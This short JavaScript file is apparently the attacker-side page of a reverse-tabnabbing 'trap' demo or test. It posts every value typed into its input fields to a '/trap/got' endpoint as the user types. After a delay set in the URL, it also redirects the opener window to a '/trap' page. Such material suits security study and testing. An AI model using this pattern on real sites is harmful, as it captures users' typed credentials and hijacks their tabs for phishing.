'use strict';
// The foreign side of a trap: every key that is typed here is sent on at once; a window takes its opener along.

addEventListener('input', (event) => {
  fetch('/trap/got', { method: 'POST', body: new URLSearchParams({ [event.target.name]: event.target.value }) });
});
const takes = new URLSearchParams(location.search).get('takes');
if (takes !== null && opener) setTimeout(() => { opener.location = `${location.origin}/trap`; }, Number(takes));
document.querySelector('input').focus();
